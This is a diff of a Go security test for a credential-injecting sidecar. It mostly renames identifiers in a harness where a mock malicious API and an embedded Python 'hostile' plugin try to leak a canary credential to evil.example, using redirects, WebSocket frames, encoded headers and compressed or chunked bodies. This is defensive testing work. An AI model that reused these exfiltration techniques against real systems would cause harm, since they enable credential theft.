@@ -37,7 +37,7 @@ import (
 // canary is the credential that nobody but the API is to see.
 const canary = "Canary+7f3a/91c2=e4d5"
 
-// spellings are the ways in which an API that helps the plugin writes it.
+// spellings returns the encodings in which a malicious API writes a secret.
 func spellings(secret string) map[string]string {
 	wide := func(low bool) string {
 		var out []byte
@@ -68,8 +68,8 @@ func spellings(secret string) map[string]string {
 	}
 }
 
-// holds reports in which spelling a text holds the secret.
-func holds(text []byte, secret string) string {
+// spellingIn reports in which spelling a text holds the secret.
+func spellingIn(text []byte, secret string) string {
 	for name, spelling := range spellings(secret) {
 		if strings.HasPrefix(name, "base64-") || name == "base64" { // its first and last characters depend on the neighbours
 			spelling = spelling[4 : len(spelling)-8]
@@ -81,8 +81,8 @@ func holds(text []byte, secret string) string {
 	return ""
 }
 
-// accomplice is an API that does what it can to give the credential to the plugin.
-type accomplice struct {
+// maliciousUpstream is an API that does what it can to give the credential to the plugin.
+type maliciousUpstream struct {
 	server *httptest.Server
 	secret func(*http.Request) string // as it arrived
 
@@ -90,26 +90,28 @@ type accomplice struct {
 	received []string // requests: line, head and body
 }
 
-func newAccomplice(t *testing.T, w *scenario.Env, name string, secret func(*http.Request) string) *accomplice {
+func newMaliciousUpstream(t *testing.T, e *scenario.Env, name string, secret func(*http.Request) string) *maliciousUpstream {
 	t.Helper()
-	a := &accomplice{secret: secret}
+	a := &maliciousUpstream{secret: secret}
 	a.server = httptest.NewUnstartedServer(http.HandlerFunc(a.serve))
-	a.server.TLS = &tls.Config{ClientAuth: tls.RequestClientCert, Certificates: []tls.Certificate{testenv.MustGet(w.API.CA.Issue(name))(t)}}
+	a.server.TLS = &tls.Config{ClientAuth: tls.RequestClientCert, Certificates: []tls.Certificate{testenv.MustGet(e.API.CA.Issue(name))(t)}}
 	a.server.Config.ErrorLog = log.New(io.Discard, "", 0)
 	a.server.StartTLS()
 	t.Cleanup(a.server.Close)
 	return a
 }
 
-func (a *accomplice) port() string { return a.server.URL[strings.LastIndex(a.server.URL, ":")+1:] }
+func (a *maliciousUpstream) port() string {
+	return a.server.URL[strings.LastIndex(a.server.URL, ":")+1:]
+}
 
-func (a *accomplice) all() string {
+func (a *maliciousUpstream) requests() string {
 	a.mu.Lock()
 	defer a.mu.Unlock()
 	return strings.Join(a.received, "\n")
 }
 
-func (a *accomplice) serve(w http.ResponseWriter, r *http.Request) {
+func (a *maliciousUpstream) serve(w http.ResponseWriter, r *http.Request) {
 	body, _ := io.ReadAll(r.Body) // a truncated body is searched too
 	client := ""
 	if len(r.TLS.PeerCertificates) > 0 {
@@ -118,11 +120,11 @@ func (a *accomplice) serve(w http.ResponseWriter, r *http.Request) {
 	a.mu.Lock()
 	a.received = append(a.received, fmt.Sprint(r.Method, " ", r.Host, " ", r.RequestURI, " ", r.Header, " ", client, " ", string(body)))
 	a.mu.Unlock()
-	betray(w, r, strings.TrimPrefix(r.URL.Path, "/v1/"), a.secret(r))
+	maliciousAnswer(w, r, strings.TrimPrefix(r.URL.Path, "/v1/"), a.secret(r))
 }
 
-// betray answers with a secret, in the way that was asked for.
-func betray(w http.ResponseWriter, r *http.Request, way, secret string) {
+// maliciousAnswer answers with a secret, in the way that was asked for.
+func maliciousAnswer(w http.ResponseWriter, r *http.Request, way, secret string) {
 	h := w.Header()
 	h.Set("Content-Type", "application/json")
 	if spelling, ok := spellings(secret)[way]; ok {
@@ -182,7 +184,7 @@ func betray(w http.ResponseWriter, r *http.Request, way, secret string) {
 		w.Header().Set("Location", "https://evil.example/?"+url.QueryEscape(secret))
 		w.WriteHeader(http.StatusTemporaryRedirect)
 	case "ws":
-		betrayByWebSocket(w, r, secret)
+		maliciousWebSocket(w, r, secret)
 	case "stream":
 		for r.Context().Err() == nil {
 			_, _ = io.WriteString(w, "data, and more of it\n")
@@ -190,15 +192,15 @@ func betray(w http.ResponseWriter, r *http.Request, way, secret string) {
 			time.Sleep(20 * time.Millisecond)
 		}
 	case "endless", "hints":
-		withoutEnd(w, way, secret)
+		endlessAnswer(w, way, secret)
 	default:
 		_, _ = fmt.Fprintf(w, "{%q: %q}", r.RequestURI, fmt.Sprint(r.Header, r.Trailer))
 	}
 }
 
-// withoutEnd answers with ten thousand trailers, or informational answers, and
+// endlessAnswer answers with ten thousand trailers, or informational answers, and
 // with nothing behind them.
-func withoutEnd(w http.ResponseWriter, way, secret string) {
+func endlessAnswer(w http.ResponseWriter, way, secret string) {
 	conn, _, err := http.NewResponseController(w).Hijack()
 	if err != nil {
 		return // HTTP/2 has no connection to hijack
@@ -226,9 +228,9 @@ var compressors = map[string]func(io.Writer) io.WriteCloser{
 	},
 }
 
-// betrayByWebSocket accepts a WebSocket whatever it asks for, and sends the
+// maliciousWebSocket accepts a WebSocket whatever it asks for, and sends the
 // secret in its head, in a message, and in one of two parts.
-func betrayByWebSocket(w http.ResponseWriter, r *http.Request, secret string) {
+func maliciousWebSocket(w http.ResponseWriter, r *http.Request, secret string) {
 	if r.Header.Get("Upgrade") == "" {
 		http.Error(w, "no WebSocket", http.StatusBadRequest)
 		return
@@ -261,12 +263,12 @@ func betrayByWebSocket(w http.ResponseWriter, r *http.Request, secret string) {
 	_, _ = io.Copy(io.Discard, in)
 }
 
-// hostile is the plugin: it prints what it got of each attempt, in base64.
-const hostile = `
+// hostileScript is the plugin: it prints what it got of each attempt, in base64.
+const hostileScript = `
 import base64, gzip, os, socket, ssl, sys, time
 from urllib.parse import urlsplit
 good, evil, length = sys.argv[1], sys.argv[2], int(sys.argv[3])
-standin = os.environ.get("STAND_IN", "none")
+placeholder = os.environ.get("PLACEHOLDER", "none")
 proxy = urlsplit(os.environ["HTTPS_PROXY"])
 token = ""
 if proxy.username:
@@ -316,25 +318,26 @@ for name, raw, to, sni in [
 ]: tell(name, ask(raw, to, sni))
 tell("hop", ask(get("/v1/all?hop", "Connection: Authorization, Cookie", "Keep-Alive: authorization")))
 tell("own", ask(get("/v1/all?own", "Authorization: Bearer mine", "authorization: Basic bWluZQ==", "Cookie: sid=mine; other=1")))
-if standin != "none":
-    half = len(standin) // 2
-    chunks = "".join(f"{len(c):x}\r\n{c}\r\n" for c in (standin[:half], standin[half:])) + "0\r\n\r\n"
-    zipped = gzip.compress(standin.encode())
+if placeholder != "none":
+    half = len(placeholder) // 2
+    chunks = "".join(f"{len(c):x}\r\n{c}\r\n" for c in (placeholder[:half], placeholder[half:])) + "0\r\n\r\n"
+    zipped = gzip.compress(placeholder.encode())
     for name, raw in [
-        ("path", get("/v1/" + standin)), ("query", get("/v1/all?k=" + standin)), ("header", get("/v1/all", "X-Note: " + standin)),
-        ("encoded", get("/v1/all", "X-Note: " + base64.b64encode(standin.encode()).decode())),
-        ("body", get("/v1/all", f"Content-Length: {len(standin)}", method="POST", body=standin)),
+        ("path", get("/v1/" + placeholder)), ("query", get("/v1/all?k=" + placeholder)), ("header", get("/v1/all", "X-Note: " + placeholder)),
+        ("encoded", get("/v1/all", "X-Note: " + base64.b64encode(placeholder.encode()).decode())),
+        ("body", get("/v1/all", f"Content-Length: {len(placeholder)}", method="POST", body=placeholder)),
         ("chunks", get("/v1/all", "Transfer-Encoding: chunked", method="POST", body=chunks)),
         ("gzip body", get("/v1/all", "Content-Encoding: gzip", f"Content-Length: {len(zipped)}", method="POST").encode() + zipped),
         ("elsewhere", None),
     ]:
-        tell("stand-in in " + name, ask(raw) if raw else ask(get("/v1/all", "Authorization: Bearer " + standin, host=evil), evil))
+        tell("placeholder in " + name, ask(raw) if raw else ask(get("/v1/all", "Authorization: Bearer " + placeholder, host=evil), evil))
 print("done", flush=True)
 time.sleep(60)
 `
 
-// theft is a credential, and how the API has it.
-type theft struct {
+// exfiltration is a credential that a plugin and an API try to get out, and where the
+// API receives it.
+type exfiltration struct {
 	kernel  string // "": off
 	inject  string
 	path    string         // in Vault; "": secret/data/weather
@@ -353,7 +356,7 @@ func TestHostilePlugin(t *testing.T) {
 	bearer := func(r *http.Request) string { return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") }
 	pair := testenv.MustGet(testenv.MustGet(testenv.NewCA("clients"))(t).Issue("weather.example"))(t)
 	key := testenv.MustGet(x509.MarshalPKCS8PrivateKey(pair.PrivateKey))(t)
-	for name, c := range map[string]theft{
+	for name, c := range map[string]exfiltration{
 		"header":            {inject: `{header: Authorization, value: "Bearer {api_key}"}`, secret: canary, arrived: bearer},
 		"header, kernel on": {kernel: "required", inject: `{header: Authorization, value: "Bearer {api_key}"}`, secret: canary, arrived: bearer},
 		"query":             {inject: `{query: key, value: "{api_key}"}`, secret: canary, arrived: func(r *http.Request) string { return r.URL.Query().Get("key") }},
@@ -385,13 +388,13 @@ func TestHostilePlugin(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			attack(t, c)
+			exfiltrate(t, c)
 		})
 	}
 }
 
 // prepare puts the credential into Vault.
-func (c *theft) prepare(t *testing.T, w *scenario.Env) {
+func (c *exfiltration) prepare(t *testing.T, e *scenario.Env) {
 	t.Helper()
 	ctx := t.Context()
 	if c.fields == nil {
@@ -399,58 +402,58 @@ func (c *theft) prepare(t *testing.T, w *scenario.Env) {
 	}
 	if c.path == "" {
 		c.path = "secret/data/weather"
-		testenv.Must(t, w.Vault.PutSecret(ctx, "weather", c.fields))
+		testenv.Must(t, e.Vault.PutSecret(ctx, "weather", c.fields))
 		return
 	}
-	testenv.Must(t, w.Vault.EnableEngine(ctx, "transit", "transit", nil))
-	testenv.MustGet(w.Vault.Write(ctx, "transit/keys/weather", map[string]any{"type": "ecdsa-p256", "exportable": true}))(t)
-	exported := testenv.MustGet(w.Vault.Read(ctx, "transit/export/signing-key/weather"))(t)
+	testenv.Must(t, e.Vault.EnableEngine(ctx, "transit", "transit", nil))
+	testenv.MustGet(e.Vault.Write(ctx, "transit/keys/weather", map[string]any{"type": "ecdsa-p256", "exportable": true}))(t)
+	exported := testenv.MustGet(e.Vault.Read(ctx, "transit/export/signing-key/weather"))(t)
 	keys, _ := exported["keys"].(map[string]any)
 	c.secret = fmt.Sprint(keys["1"])
-	testenv.Must(t, w.Vault.Policy(ctx, "weather", `path "transit/sign/weather/*" { capabilities = ["update"] }`))
+	testenv.Must(t, e.Vault.Policy(ctx, "weather", `path "transit/sign/weather/*" { capabilities = ["update"] }`))
 }
 
-// isIn returns in which spelling a text holds any of it, "" for none.
-func (c *theft) isIn(text []byte) string {
+// spellingIn returns in which spelling a text holds any of it, "" for none.
+func (c *exfiltration) spellingIn(text []byte) string {
 	for _, secret := range append([]string{c.secret}, c.more...) {
-		if how := holds(text, secret); how != "" {
+		if how := spellingIn(text, secret); how != "" {
 			return how
 		}
 	}
 	return ""
 }
 
-func attack(t *testing.T, c theft) {
+func exfiltrate(t *testing.T, c exfiltration) {
 	if c.kernel == "" {
 		c.kernel = "off"
 	}
-	w := scenario.New(t, c.kernel, "")
-	good := newAccomplice(t, w, scenario.Host, c.arrived)
-	evil := newAccomplice(t, w, "evil.example", c.arrived)
-	c.prepare(t, w)
+	e := scenario.New(t, c.kernel, "")
+	good := newMaliciousUpstream(t, e, scenario.Host, c.arrived)
+	evil := newMaliciousUpstream(t, e, "evil.example", c.arrived)
+	c.prepare(t, e)
 	secret, inject := c.secret, c.inject
 	tokens := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
 		rw.Header().Set("Content-Type", "application/json")
 		_ = json.NewEncoder(rw).Encode(map[string]any{"access_token": secret, "expires_in": 3600})
 	}))
-	tokens.TLS = &tls.Config{Certificates: []tls.Certificate{testenv.MustGet(w.API.CA.Issue("127.0.0.1"))(t)}}
+	tokens.TLS = &tls.Config{Certificates: []tls.Certificate{testenv.MustGet(e.API.CA.Issue("127.0.0.1"))(t)}}
 	tokens.StartTLS()
 	t.Cleanup(tokens.Close)
 	inject = strings.ReplaceAll(inject, "TOKENS", tokens.URL)
 	free := testenv.MustGet(net.Listen("tcp", "127.0.0.1:0"))(t)
 	metrics := free.Addr().String()
 	testenv.Must(t, free.Close())
-	w.Write("sidecar.yaml", strings.NewReplacer(
+	e.Write("sidecar.yaml", strings.NewReplacer(
 		"dns: {hosts: {", "dns: {hosts: {evil.example: [127.0.0.1], ", `metrics: "127.0.0.1:0"`, "metrics: "+strconv.Quote(metrics),
-	).Replace(w.Read("sidecar.yaml")))
-	to := func(name string, a *accomplice) string {
+	).Replace(e.Read("sidecar.yaml")))
+	to := func(name string, a *maliciousUpstream) string {
 		return fmt.Sprintf("to: {hosts: [%s], ports: [%s], addresses: [127.0.0.1/32], tls: {caFile: api-ca.pem}}, methods: [GET, POST], paths: [\"/v1/*\"]", name, a.port())
 	}
-	placeholder := "    placeholder: {env: STAND_IN, like: \"wk_{24}\"}\n"
+	placeholder := "    placeholder: {env: PLACEHOLDER, like: \"wk_{24}\"}\n"
 	if strings.Contains(inject, "mtls") {
 		placeholder = "" // it has no place in a request
 	}
-	w.Write("grant.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
+	e.Write("grant.yaml", fmt.Sprintf(`apiVersion: chaperone.dev/v1alpha1
 kind: PluginGrant
 metadata: {name: weather}
 spec:
@@ -464,14 +467,14 @@ spec:
     vault: {path: %s}
     inject: %s
 %s`, time.Now().Add(time.Hour).UTC().Format(time.RFC3339), to(scenario.Host, good), to("evil.example", evil), c.path, inject, placeholder))
-	args := []string{"python3", "-c", hostile, scenario.Host + ":" + good.port(), "evil.example:" + evil.port(), fmt.Sprint(min(len(secret), 40))}
+	args := []string{"python3", "-c", hostileScript, scenario.Host + ":" + good.port(), "evil.example:" + evil.port(), fmt.Sprint(min(len(secret), 40))}
 	for way := range spellings(secret) {
 		args = append(args, way)
 	}
 	args = append(args, "headers", "early", "trailer", "error", "pieces", "gzip", "deflate", "br", "zstd", "range", "grpc", "all")
-	b := w.Start(args...)
+	b := e.Start(args...)
 	testenv.Eventually(t, "the plugin has tried everything", func() (bool, bool) { return true, strings.Contains(b.Output.String(), "\ndone") })
-	received := good.all()
+	received := good.requests()
 	if c.path != "secret/data/weather" { // Vault made it
 		for _, token := range regexp.MustCompile(`Bearer (eyJ[^ \]]+)`).FindAllStringSubmatch(received, -1) {
 			c.more = append(c.more, token[1])
@@ -487,40 +490,40 @@ spec:
 		at := strings.LastIndex(strings.TrimSpace(rest), " ")
 		attempt := rest[:max(at, 0)]
 		got := testenv.MustGet(base64.StdEncoding.DecodeString(strings.TrimSpace(rest[at+1:])))(t)
-		if how := c.isIn(unpacked(got)); how != "" {
+		if how := c.spellingIn(decompressed(got)); how != "" {
 			t.Errorf("%s: the plugin got the credential, spelled %s:\n%s", attempt, how, got)
 		}
-		if strings.HasPrefix(attempt, "stand-in in ") && !bytes.Contains(got, []byte("credential_misplaced")) {
+		if strings.HasPrefix(attempt, "placeholder in ") && !bytes.Contains(got, []byte("credential_misplaced")) {
 			t.Errorf("%s is not refused as that:\n%s", attempt, got)
 		}
 	}
 	if tried < 40 {
 		t.Errorf("only %d attempts", tried)
 	}
-	c.mustNotBe(t, w, b, map[string]string{"the other host": evil.all(), "the metrics": metricsOf(t, metrics)})
-	c.mustArrive(t, received, evil.all())
+	c.mustNotLeak(t, e, b, map[string]string{"the other host": evil.requests(), "the metrics": metricsOf(t, metrics)})
+	c.mustArrive(t, received, evil.requests())
 }
 
-// mustNotBe looks for it in everything that the plugin and readers of the sidecar's
+// mustNotLeak looks for it in everything that the plugin and readers of the sidecar's
 // output can see.
-func (c *theft) mustNotBe(t *testing.T, w *scenario.Env, b *scenario.Process, looked map[string]string) {
+func (c *exfiltration) mustNotLeak(t *testing.T, e *scenario.Env, b *scenario.Process, looked map[string]string) {
 	t.Helper()
-	looked["the log"], looked["status"] = w.Read("state/audit.jsonl"), fmt.Sprint(w.Ready())
-	looked["usage"] = w.Chaperone("usage", "--config", w.File("sidecar.yaml"), "--output", "json").Stdout
+	looked["the log"], looked["status"] = e.Read("state/audit.jsonl"), fmt.Sprint(e.Ready())
+	looked["usage"] = e.Chaperone("usage", "--config", e.File("sidecar.yaml"), "--output", "json").Stdout
 	for line := range strings.Lines(b.Output.String()) {
 		if !strings.HasPrefix(line, "got ") {
 			looked["stderr"] += line
 		}
 	}
 	for where, text := range looked {
-		if how := c.isIn([]byte(text)); how != "" {
+		if how := c.spellingIn([]byte(text)); how != "" {
 			t.Errorf("%s has the credential, spelled %s", where, how)
 		}
 	}
 }
 
 // mustArrive checks that the API got it, and nothing of the plugin's in its place.
-func (c *theft) mustArrive(t *testing.T, received, elsewhere string) {
+func (c *exfiltration) mustArrive(t *testing.T, received, elsewhere string) {
 	t.Helper()
 	for _, want := range []string{"?hop", "?own"} {
 		at := strings.Index(received, want)
@@ -533,7 +536,7 @@ func (c *theft) mustArrive(t *testing.T, received, elsewhere string) {
 			if !strings.Contains(line, c.shows) {
 				t.Errorf("%s arrived without the credential: %s", want, line)
 			}
-		} else if holds([]byte(line), c.secret) == "" && !strings.Contains(line, base64.StdEncoding.EncodeToString([]byte("weather:"+c.secret))) {
+		} else if spellingIn([]byte(line), c.secret) == "" && !strings.Contains(line, base64.StdEncoding.EncodeToString([]byte("weather:"+c.secret))) {
 			t.Errorf("%s arrived without the credential: %s", want, line)
 		}
 		if strings.Contains(c.inject, "header") && strings.Contains(line, "mine") && !strings.Contains(line, "sid=mine") {
@@ -548,8 +551,8 @@ func (c *theft) mustArrive(t *testing.T, received, elsewhere string) {
 	}
 }
 
-// unpacked returns an answer and, where its body is compressed, that too.
-func unpacked(answer []byte) []byte {
+// decompressed returns an answer and, where its body is compressed, that too.
+func decompressed(answer []byte) []byte {
 	out := slices.Clone(answer)
 	decode := func(open func(io.Reader) (io.Reader, error), from []byte) {
 		r, err := open(bytes.NewReader(from))
